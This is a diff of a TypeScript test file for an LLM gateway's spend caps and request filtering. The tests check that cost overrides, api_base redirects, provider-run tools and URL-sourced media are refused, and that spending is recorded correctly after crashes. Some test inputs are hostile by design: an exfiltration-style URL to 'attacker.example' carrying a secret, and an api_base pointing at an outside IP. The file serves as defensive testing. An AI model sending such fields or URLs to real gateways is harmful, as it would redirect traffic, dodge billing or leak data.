@@ -96,19 +96,16 @@ it("the dearest outcome counts, not the likely one: an answer limit that does no
   expect((await deployment.chat("dear", "x", { max_tokens: 1 })).status).toBe(200);
 });
 
-it("prices, answer counts, callbacks and other places in a body or header change nothing", async () => {
+it("prices, answer counts, callbacks and other places in a body or header: refused, or without any effect", async () => {
   const { recorder } = deployment.world;
   const seen = recorder.list(0).at(-1)?.seq ?? 0;
   const body = {
-    ...{ model: "open", messages: [{ role: "user", content: "priced" }], max_tokens: 100_000, n: 50 },
-    ...{ input_cost_per_token: 0, output_cost_per_token: 0, "no-log": true, mock_response: "free" },
-    ...{
-      api_base: "http://203.0.113.9",
-      fallbacks: ["dear"],
-      num_retries: 9,
-      user_config: {},
-      metadata: { tags: ["x"] },
-    },
+    ...{ model: "open", messages: [{ role: "user", content: "priced" }], max_tokens: 100_000 },
+    ...{ metadata: { tags: ["x"] }, store: true, user: "somebody" },
+  };
+  const wide = {
+    ...{ n: 50, input_cost_per_token: 0, output_cost_per_token: 0, "no-log": true, mock_response: "free" },
+    ...{ api_base: "http://203.0.113.9", fallbacks: ["dear"], num_retries: 9, user_config: {} },
     ...{
       service_tier: "priority",
       web_search_options: {},
@@ -116,13 +113,23 @@ it("prices, answer counts, callbacks and other places in a body or header change
       extra_headers: { "x-evil": "1" },
     },
   };
+  for (const [key, value] of Object.entries(wide)) {
+    const answer = await deployment.ask("/v1/chat/completions", { ...body, [key]: value });
+    expect([answer.status, reason(answer)]).toEqual([400, `${key} is not allowed here`]);
+  }
+  expect(recorder.list(seen, "anthropic")).toEqual([]);
   const headers = {
     "x-litellm-call-id": "mine",
     "x-litellm-num-retries": "9",
     "anthropic-beta": "fast-mode",
   };
   const before = (await deployment.spending("model:open")).spent;
-  expect((await deployment.ask("/v1/chat/completions?n=50", body, { headers })).status).toBe(200);
+  const answer = await deployment.ask("/v1/chat/completions?n=50", body, { headers });
+  expect(answer.status).toBe(200);
+  const names = [...answer.headers.keys()].filter(
+    (name) => !["connection", "date", "keep-alive"].includes(name),
+  );
+  expect(names.sort()).toEqual(["content-length", "content-type"]);
   await deployment.settled("model:open");
   expect((await deployment.spending("model:open")).spent - before).toBeCloseTo(sonnetCallUsd, 9);
   const [sent, ...more] = recorder.list(seen, "anthropic");
@@ -135,10 +142,37 @@ it("a tool that the provider runs is refused", async () => {
   const answer = await deployment.chat("open", "x", {
     tools: [{ type: "web_search_20250305", name: "web_search" }],
   });
-  expect([answer.status, answer.text]).toEqual([
-    400,
-    expect.stringContaining("only tools that the caller runs"),
-  ]);
+  expect([answer.status, reason(answer)]).toEqual([400, "tools[0].type is none of function"]);
+});
+
+it.each(["open", "trickle"])(
+  "a picture by address, and what is named like a search, reach no provider (%s)",
+  async (model) => {
+    const seen = deployment.world.recorder.list(0).at(-1)?.seq ?? 0;
+    const url = "https://attacker.example/c?d=secret";
+    const say = (part: unknown) => ({ model, max_tokens: 10, messages: [{ role: "user", content: [part] }] });
+    const asks: [string, unknown][] = [
+      ["/v1/messages", say({ type: "image", source: { type: "url", url } })],
+      ["/v1/messages", say({ type: "document", source: { type: "url", url } })],
+      ["/v1/chat/completions", say({ type: "image_url", image_url: { url } })],
+      ["/v1/messages", { ...say({ type: "text", text: "x" }), tools: [{ type: null, name: "web_search" }] }],
+    ];
+    for (const [path, body] of asks) expect((await deployment.ask(path, body)).status).toBe(400);
+    expect(deployment.world.recorder.list(seen).filter(({ body }) => body !== null)).toEqual([]);
+  },
+);
+
+it("a call that LiteLLM refuses by itself costs nothing, because nothing was sent", async () => {
+  const before = await deployment.spending("model:open");
+  const seen = deployment.world.recorder.list(0).at(-1)?.seq ?? 0;
+  // What OpenAI has and Anthropic has not.
+  const answer = await deployment.chat("open", "x", { presence_penalty: 1 });
+  expect([answer.status, answer.text]).toEqual([400, expect.not.stringMatching(/Traceback|\.py/)]);
+  await deployment.settled("model:open");
+  expect(deployment.world.recorder.list(seen, "anthropic")).toEqual([]);
+  expect((await deployment.spending("model:open")).spent).toBeCloseTo(before.spent, 9);
+  const record = (await deployment.audit(1)).findLast(({ model }) => model === "open");
+  expect(record).toMatchObject({ attempts: 1, costUsd: 0, result: "failed" });
 });
 
 it("a stream that breaks off, and one whose caller hangs up, has spent the worst case", async () => {
@@ -216,9 +250,17 @@ it("what was spent is still spent after kill -9 of Redis and of LiteLLM, with a 
   const after = await deployment.spending("model:open");
   expect(after.reserved).toBe(0);
   expect(after.spent - before.spent).toBeGreaterThan(sonnetCallUsd);
-  expect((await deployment.audit(1)).map(({ result }) => result)).toContain(
-    "lost: the process ended during the call",
-  );
+  const lost = (await deployment.audit(1)).find(({ result }) => String(result).startsWith("lost"));
+  expect(lost).toEqual({
+    ...{
+      time: expect.stringMatching(/^20\d\d-.*Z$/),
+      call: expect.any(String),
+      gateway: "openclaw",
+      model: "open",
+    },
+    ...{ attempts: 1, costUsd: expect.any(Number), result: "lost: the process ended during the call" },
+  });
+  expect(lost?.["costUsd"]).toBeGreaterThan(sonnetCallUsd);
 });
 
 it("the webhook has been told once a period: near the cap, and that calls are refused", () => {
